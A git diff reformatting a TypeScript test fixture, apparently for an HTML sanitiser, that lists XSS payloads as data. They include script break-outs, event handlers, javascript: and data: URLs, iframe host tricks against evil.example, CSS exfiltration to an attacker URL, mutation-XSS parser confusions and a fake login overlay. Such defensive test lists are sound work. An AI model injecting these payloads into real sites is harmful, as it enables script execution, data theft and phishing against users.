@@ -33,18 +33,30 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'module script', html: '<script type="module">alert(1)</script>' },
   { name: 'nested script tags', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
   { name: 'closing then opening script', html: '</script><script>alert(1)</script>' },
-  { name: 'JSON-LD break-out', html: '<script type="application/ld+json">{"x":"</script><script>alert(1)</script>"}</script>' },
+  {
+    name: 'JSON-LD break-out',
+    html: '<script type="application/ld+json">{"x":"</script><script>alert(1)</script>"}</script>',
+  },
   { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
-  { name: 'svg script with entities (decoded in foreign content)', html: '<svg><script>alert&#40;1&#41;</script></svg>' },
+  {
+    name: 'svg script with entities (decoded in foreign content)',
+    html: '<svg><script>alert&#40;1&#41;</script></svg>',
+  },
   { name: 'svg script href', html: '<svg><script href="data:,alert(1)"/></svg>' },
   { name: 'svg script xlink:href', html: '<svg><script xlink:href="data:,alert(1)"></script></svg>' },
-  { name: 'svg handler element', html: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>' },
+  {
+    name: 'svg handler element',
+    html: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
+  },
 
   // Event handler attributes.
   { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
   { name: 'img onerror fromCharCode', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
   { name: 'img onerror eval(src)', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
-  { name: 'img onerror decimal entities', html: '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">' },
+  {
+    name: 'img onerror decimal entities',
+    html: '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
+  },
   { name: 'img onerror hex entities', html: '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>' },
   { name: 'img onerror named entities', html: '<img src=x onerror=alert&lpar;1&rpar;>' },
   { name: 'slashes for spaces', html: '<img/src=x/onerror=alert(1)>' },
@@ -86,8 +98,14 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'object onerror', html: '<object data=x onerror=alert(1)></object>' },
   { name: 'style onload', html: '<style onload=alert(1)></style>' },
   { name: 'link onerror', html: '<link rel=stylesheet href=x onerror=alert(1)>' },
-  { name: 'css animation handler', html: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>' },
-  { name: 'css transition handler', html: '<div style="transition:color 1ms" ontransitionend=alert(1) id=t>x</div><style>#t{color:red}</style>' },
+  {
+    name: 'css animation handler',
+    html: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
+  },
+  {
+    name: 'css transition handler',
+    html: '<div style="transition:color 1ms" ontransitionend=alert(1) id=t>x</div><style>#t{color:red}</style>',
+  },
   { name: 'mouseover covering the page', html: '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>' },
   { name: 'anchor onmouseover', html: '<a onmouseover=alert(1)>hover me</a>' },
   { name: 'custom element onclick', html: '<x onclick=alert(1)>click me</x>' },
@@ -95,17 +113,26 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'keygen autofocus', html: '<keygen autofocus onfocus=alert(1)>' },
   { name: 'frameset onload', html: '<frameset onload=alert(1)>' },
   { name: 'onclick with javascript:void', html: '<a href="javascript:void(0)" onclick="alert(1)">x</a>' },
-  { name: 'popover beforetoggle', html: '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>' },
+  {
+    name: 'popover beforetoggle',
+    html: '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>',
+  },
 
   // javascript:, vbscript: and data: URLs.
   { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
   { name: 'mixed-case javascript:', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
-  { name: 'javascript: decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
+  {
+    name: 'javascript: decimal entities',
+    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  },
   {
     name: 'javascript: long decimal entities without semicolons',
     html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>',
   },
-  { name: 'javascript: hex entities without semicolons', html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>' },
+  {
+    name: 'javascript: hex entities without semicolons',
+    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
+  },
   { name: 'javascript: with tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
   { name: 'javascript: with encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
   { name: 'javascript: with encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
@@ -123,20 +150,35 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'img src javascript: with tab entity', html: '<IMG SRC="jav&#x09;ascript:alert(1);">' },
   { name: 'img dynsrc and lowsrc', html: '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">' },
   { name: 'img src data: HTML', html: `<img src="data:text/html;base64,${SCRIPT_B64}">` },
-  { name: 'img src data: SVG with script', html: '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">' },
+  {
+    name: 'img src data: SVG with script',
+    html: '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
+  },
   { name: 'srcset javascript:', html: '<img srcset="javascript:alert(1) 1x">' },
   { name: 'srcset data: HTML candidate', html: '<img srcset="x 1x, data:text/html,<script>alert(1)</script> 2x">' },
   { name: 'picture source javascript:', html: '<picture><source srcset="javascript:alert(1)"><img src=x></picture>' },
   { name: 'video poster javascript:', html: '<video poster=javascript:alert(1)//></video>' },
   { name: 'input image javascript:', html: '<input type="image" src="javascript:alert(1)">' },
   { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>' },
-  { name: 'iframe javascript: behind an allowed host', html: '<iframe src="javascript://www.youtube.com/%0aalert(1)"></iframe>' },
+  {
+    name: 'iframe javascript: behind an allowed host',
+    html: '<iframe src="javascript://www.youtube.com/%0aalert(1)"></iframe>',
+  },
   { name: 'iframe data: HTML', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
   { name: 'iframe srcdoc script', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
   { name: 'iframe srcdoc entity-encoded img', html: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>' },
-  { name: 'allowed iframe with srcdoc', html: '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>' },
-  { name: 'allowed iframe with onload', html: '<iframe src="https://www.youtube.com/embed/x" onload=alert(1)></iframe>' },
-  { name: 'allowed iframe with a permissive sandbox', html: '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups-to-escape-sandbox"></iframe>' },
+  {
+    name: 'allowed iframe with srcdoc',
+    html: '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
+  },
+  {
+    name: 'allowed iframe with onload',
+    html: '<iframe src="https://www.youtube.com/embed/x" onload=alert(1)></iframe>',
+  },
+  {
+    name: 'allowed iframe with a permissive sandbox',
+    html: '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups-to-escape-sandbox"></iframe>',
+  },
   { name: 'iframe host suffix trick', html: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>' },
   { name: 'iframe userinfo trick', html: '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>' },
   { name: 'iframe fragment trick', html: `<iframe src="${EVIL}/#https://www.youtube.com/embed/x"></iframe>` },
@@ -148,20 +190,38 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'applet', html: '<applet code="xss.class" codebase="https://evil.example/"></applet>' },
   { name: 'form action javascript:', html: '<form action="javascript:alert(1)"><input type=submit></form>' },
   { name: 'button formaction', html: '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>' },
-  { name: 'svg anchor xlink:href', html: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>' },
-  { name: 'svg anchor href around a rect', html: '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>' },
-  { name: 'svg animate sets href', html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>' },
+  {
+    name: 'svg anchor xlink:href',
+    html: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
+  },
+  {
+    name: 'svg anchor href around a rect',
+    html: '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
+  },
+  {
+    name: 'svg animate sets href',
+    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
+  },
   { name: 'svg use data: document', html: `<svg><use href="data:image/svg+xml;base64,${USE_B64}#x"/></svg>` },
   { name: 'math href', html: '<math href="javascript:alert(1)">CLICKME</math>' },
-  { name: 'math maction xlink:href', html: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction></math>' },
+  {
+    name: 'math maction xlink:href',
+    html: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction></math>',
+  },
   { name: 'anchor ping off-site', html: `<a href="/" ping="${EVIL}/ping">x</a>` },
 
   // Document-level elements: refresh, base, CSP, imports.
   { name: 'meta refresh javascript:', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">' },
-  { name: 'meta refresh data:', html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${SCRIPT_B64}">` },
+  {
+    name: 'meta refresh data:',
+    html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${SCRIPT_B64}">`,
+  },
   { name: 'meta refresh off-site', html: `<meta http-equiv="refresh" content="0; url=${EVIL}/">` },
   { name: 'meta set-cookie', html: '<meta http-equiv="Set-Cookie" content="xss=1">' },
-  { name: 'meta CSP relaxation', html: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>alert(1)</script>` },
+  {
+    name: 'meta CSP relaxation',
+    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>alert(1)</script>`,
+  },
   { name: 'meta charset UTF-7', html: '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
   { name: 'base href javascript:', html: '<base href="javascript:alert(1)//"><a href="x">x</a>' },
   { name: 'base href off-site', html: `<base href="${EVIL}/"><a href="x">x</a><img src="y">` },
@@ -180,13 +240,25 @@ export const XSS_VECTORS: XssVector[] = [
   { name: 'style element @import javascript:', html: `<style>@import 'javascript:alert(1)';</style>` },
   { name: 'style element @import off-site', html: `<style>@import '${EVIL}/x.css';</style>` },
   { name: 'style element url(javascript:)', html: '<style>body{background:url("javascript:alert(1)")}</style>' },
-  { name: 'style element list-style-image', html: '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>' },
+  {
+    name: 'style element list-style-image',
+    html: '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
+  },
   { name: 'style element expression()', html: '<style>*{x:expression(alert(1))}</style>' },
-  { name: 'style element attribute-selector exfiltration', html: `<style>a[href^="/"]{background:url(${EVIL}/leak)}</style>` },
-  { name: 'page-covering overlay', html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Log in again</div>' },
+  {
+    name: 'style element attribute-selector exfiltration',
+    html: `<style>a[href^="/"]{background:url(${EVIL}/leak)}</style>`,
+  },
+  {
+    name: 'page-covering overlay',
+    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Log in again</div>',
+  },
 
   // Raw-text and RCDATA elements whose end a sanitiser may misjudge.
-  { name: 'noscript title break-out', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
+  {
+    name: 'noscript title break-out',
+    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  },
   { name: 'noscript escaped text', html: '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</noscript>' },
   { name: 'iframe content break-out', html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>' },
   { name: 'noembed break-out', html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
@@ -218,15 +290,27 @@ export const XSS_VECTORS: XssVector[] = [
     name: 'math mglyph style comment',
     html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
   },
-  { name: 'form math mtext mglyph', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
+  {
+    name: 'form math mtext mglyph',
+    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  },
   { name: 'svg foreignObject', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
   { name: 'svg desc', html: '<svg><desc><img src=x onerror=alert(1)></desc></svg>' },
   { name: 'svg title', html: '<svg><title><img src=x onerror=alert(1)></title></svg>' },
-  { name: 'math annotation-xml', html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>' },
-  { name: 'math annotation-xml style', html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>' },
+  {
+    name: 'math annotation-xml',
+    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+  },
+  {
+    name: 'math annotation-xml style',
+    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+  },
   { name: 'template img', html: '<template><img src=x onerror=alert(1)></template>' },
   { name: 'template script', html: '<template><script>alert(1)</script></template>' },
-  { name: 'select template style', html: '<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>' },
+  {
+    name: 'select template style',
+    html: '<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>',
+  },
   { name: 'table foster parenting', html: '<table><img src=x onerror=alert(1)></table>' },
   { name: 'table svg style', html: '<table><tr><td><svg><style></td><img src=x onerror=alert(1)>' },
   { name: 'nested forms', html: '<form><form><img src=x onerror=alert(1)></form></form>' },
@@ -256,7 +340,13 @@ export const XSS_VECTORS: XssVector[] = [
 ]
 
 /** Posts whose metadata, not body, carries payloads: titles, authors, tags, categories, descriptions. */
-export const XSS_METADATA: { title: string; author: string; tags: string[]; categories: string[]; description: string }[] = [
+export const XSS_METADATA: {
+  title: string
+  author: string
+  tags: string[]
+  categories: string[]
+  description: string
+}[] = [
   {
     title: '<script>alert(1)</script> in a title',
     author: '<img src=x onerror=alert(1)>',
